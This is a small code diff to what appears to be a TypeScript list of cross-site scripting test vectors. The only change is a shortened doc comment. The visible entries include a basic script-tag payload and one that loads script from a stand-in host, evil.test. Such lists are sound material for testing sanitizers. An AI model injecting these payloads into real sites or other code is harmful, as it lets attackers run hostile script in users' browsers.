@@ -1,4 +1,4 @@
-/** Ways of putting a running script into a text: raw tags, handlers, hidden addresses, broken and nested markup. */
+/** Raw tags, handlers, hidden addresses, broken and nested markup. */
 export const xssVectors: readonly string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=https://evil.test/xss.js></SCRIPT>",
